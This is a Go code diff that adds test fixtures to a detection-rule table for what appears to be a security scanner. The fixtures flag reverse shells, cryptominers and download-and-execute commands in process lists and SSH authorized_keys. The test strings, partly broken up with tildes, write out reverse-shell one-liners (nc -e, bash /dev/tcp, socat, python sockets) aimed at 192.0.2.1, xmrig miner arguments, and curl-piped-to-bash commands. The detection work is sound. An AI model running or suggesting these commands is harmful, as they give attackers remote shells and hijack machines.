@@ -19,6 +19,7 @@ const (
 	jspFile   = "/srv/webapps/a.jsp"
 	aspFile   = "/inetpub/a.aspx"
 	keyFile   = "/root/.ssh/authorized_keys"
+	procFile  = "/processes/processes.jsonl"
 )
 
 func unit(line string) string {
@@ -147,6 +148,17 @@ func spellings() map[string]struct{ yes, no []look } {
 		"hozen_packed_elf_in_temporary_folder": {
 			yes: []look{{"/run/user/1000/x", elfWith("$In~fo: This file is packed with the UP~X executable packer" + room)}},
 			no:  []look{{"/home/a/template/x", elfWith("$In~fo: This file is packed with the UP~X executable packer" + room)}}},
+		"hozen_process_shell_on_network": {
+			yes: []look{{procFile, `{"pid":1,"ar~gs":["n~c","192.0.2.1","44","-e","/bin/s~h"]}` + "\n"}, {procFile, `{"ar~gs":["bash","-c","ba~sh -i >& /dev/t~cp/192.0.2.1/44 0>&1"]}`},
+				{procFile, `{"ar~gs":["/usr/bin/busybox","n~c","192.0.2.1","44","-e","s~h"]}`}, {procFile, `{"ar~gs":["soc~at","TCP:192.0.2.1:44","EX~EC:/bin/bash,pty"]}`},
+				{procFile, `{"ar~gs":["pyth~on3","-c","import sock~et,os;s=socket.socket();s.conn~ect((\"192.0.2.1\",44));os.du~p2(s.fileno(),0)"]}`}},
+			no: []look{{procFile, `{"args":["nc","-l","-p","80"]}` + "\n" + `{"args":["sh","-c","x"]}`}, {procFile, `{"args":["vim","/dev/tcp"]}`}, {"/root/x.jsonl", `{"ar~gs":["n~c","192.0.2.1","44","-e","/bin/s~h"]}`}}},
+		"hozen_process_mines": {
+			yes: []look{{procFile, `{"ar~gs":["/tmp/x","-o","strat~um+tcp://p.example:33"]}`}, {procFile, `{"ar~gs":["./xmr~ig"]}`}, {procFile, `{"ar~gs":["./x","-a","r~x/0","-o","192.0.2.1:33"]}`}, {procFile, `{"ar~gs":["./x","--donate-le~vel=1"]}`}},
+			no:  []look{{procFile, `{"args":["less","xmrig.md"]}`}, {procFile, `{"args":["x","-a","-o"]}`}}},
+		"hozen_process_feeds_interpreter": {
+			yes: []look{{procFile, `{"ar~gs":["sh","-c","cu~rl -s http://192.0.2.1/a | ba~sh"]}`}, {procFile, `{"ar~gs":["/bin/bash","-c","echo aWQ= | base~64 -d | s~h"]}`}},
+			no:  []look{{procFile, `{"args":["sh","-c","curl -s http://192.0.2.1/a | jq ."]}`}, {procFile, `{"args":["curl","-s","http://x.example"]}`}}},
 		"hozen_ssh_key_with_hostile_command": {
 			yes: []look{{keyFile, "Comm~and=\"/tm~p/x\" ssh-ed25519 AAAA\n"}, {keyFile, "comm~and=\"sh -c \\\"$(wg~et -qO- http://192.0.2.1/a)\\\"\" ssh-ed25519 AAAA\n"}, {"/etc/ssh/keys/root", "comm~and=\"/tm~p/x\" ssh-rsa AAAA\n"}, {keyFile + ".bak", "comm~and=\"/tm~p/x\" ssh-rsa AAAA\n"}},
 			no:  []look{{keyFile, "command=\"/usr/local/bin/curl-report\",no-pty ssh-ed25519 AAAA\n"}}},
